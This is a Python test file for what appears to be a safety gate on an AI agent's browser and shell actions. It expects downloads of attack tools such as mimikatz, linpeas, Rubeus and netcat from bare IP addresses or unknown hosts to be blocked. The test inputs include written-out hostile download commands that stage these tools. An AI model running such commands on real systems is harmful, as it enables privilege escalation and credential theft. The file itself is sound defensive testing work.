"""An attack tool fetched (opened in the browser or downloaded from the shell) from a bare address or a host that
is no project's release blocks; the same tool from its project's release asks or passes as before; ordinary
installers from vendors' hosts are untouched."""

from __future__ import annotations

import pytest

from gate import SafetyGate, default_policy
from gate.model import Assessment, action_from_dict
from gate.rules.shell_context import attack_tool_fetched

GATE = SafetyGate(default_policy("balanced"))


def act(action: dict) -> Assessment:
    return GATE.assess(action_from_dict(action))


def nav(url: str) -> str:
    return act({"type": "navigate", "url": url}).decision.value


def shell(command: str) -> str:
    return act({"type": "shell", "command": command}).decision.value


@pytest.mark.parametrize("url", [
    "http://10.8.0.14/PowerUp.ps1",
    "http://172.20.1.9:8080/winPEASany.exe",
    "http://192.168.56.101/Rubeus.exe",
    "http://203.0.113.50/lazagne.exe",
    "http://10.8.0.14/ncat.exe",
    "http://10.8.0.14/payload.elf",
    "http://10.9.0.4:8000/chisel_1.9.1_linux_amd64",
    "https://share.example-files.net/kit/Invoke-Mimikatz.ps1",
    "https://cdn.example.org/x/SharpHound.exe",
])
def test_attack_tools_from_an_address_or_unknown_host_block(url: str) -> None:
    assert nav(url) == "block", act({"type": "navigate", "url": url})


@pytest.mark.parametrize("command", [
    "wget http://10.8.0.14/linpeas.sh -O /tmp/l.sh",
    "curl -sO http://192.168.56.1:8000/PrintSpoofer64.exe",
    "curl -o /dev/shm/x http://203.0.113.7/pspy64",
    "wget https://dl.example-mirror.io/tools/mimikatz.exe",
    "Invoke-WebRequest http://10.8.0.14/nc64.exe -OutFile nc.exe",
])
def test_attack_tools_downloaded_from_an_address_or_unknown_host_block(command: str) -> None:
    assert shell(command) == "block", act({"type": "shell", "command": command})


@pytest.mark.parametrize("command", [
    "wget https://github.com/peass-ng/PEASS-ng/releases/latest/download/winPEASx64.exe",
    "git clone https://github.com/BloodHoundAD/SharpHound",
])
def test_attack_tools_from_their_release_ask(command: str) -> None:
    assert shell(command) == "confirm", act({"type": "shell", "command": command})


@pytest.mark.parametrize("url", [
    "https://nodejs.org/dist/v22.1.0/node-v22.1.0-x64.msi",
    "https://download.sysinternals.com/files/PSTools.zip",
    "https://github.com/gentilkiwi/mimikatz/wiki",
    "http://192.168.1.1/shell",
    "http://10.0.0.5/docs/report.pdf",
])
def test_vendor_installers_and_pages_do_not_block(url: str) -> None:
    assert nav(url) != "block", act({"type": "navigate", "url": url})


def test_the_tool_judgement() -> None:
    assert attack_tool_fetched("10.10.14.3", "/Invoke-Mimikatz.ps1") == "invoke-mimikatz"
    assert attack_tool_fetched("10.10.14.3", "/nc.exe") == "nc"
    assert attack_tool_fetched("files.example.com", "/nc.exe") is None  # a netcat elsewhere is judged as any file
    assert attack_tool_fetched("127.0.0.1", "/nc.exe") is None
    assert attack_tool_fetched("github.com", "/x/mimikatz/releases/download/v1/mimikatz.zip") is None
    assert attack_tool_fetched("10.10.14.3", "/setup.exe") is None
